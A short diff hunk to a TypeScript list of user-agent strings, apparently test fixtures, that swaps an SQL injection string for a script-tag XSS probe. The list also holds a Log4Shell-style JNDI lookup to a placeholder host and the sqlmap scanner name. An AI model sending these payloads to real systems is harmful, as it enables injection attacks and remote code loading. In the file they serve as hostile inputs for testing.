@@ -22,7 +22,7 @@ const AGENTS = [
   'shop-app/4.1',
   'shop-app/4.1',
   'sqlmap/1.7',
-  "x' or '1'='1",
+  '<script>alert(1)</script>',
   '${jndi:ldap://a.example}',
   '',
 ] as const;
